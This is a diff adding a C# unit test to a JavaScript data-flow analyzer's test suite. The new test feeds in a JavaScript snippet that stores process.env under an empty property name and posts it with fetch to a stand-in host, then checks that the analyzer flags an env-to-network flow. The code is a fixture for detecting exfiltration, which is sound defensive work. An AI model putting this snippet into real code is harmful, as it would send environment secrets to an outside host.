@@ -76,6 +76,12 @@ public sealed class JavaScriptFlowTests
     }
 
     [Fact]
+    public void A_property_without_a_name_is_a_property() =>
+        Assert.Contains(
+            Analyze(("index.js", "const list = []; list[\"\"] = process.env; list[\"\"]; fetch('https://collect.example.test', { body: JSON.stringify(list) });")).Flows,
+            flow => flow is { Source: "env.all", Sink: "network" });
+
+    [Fact]
     public void A_file_that_does_not_parse_is_reported()
     {
         var part = Assert.Single(Analyze(("index.js", "let = = 3;")).Unanalysed);
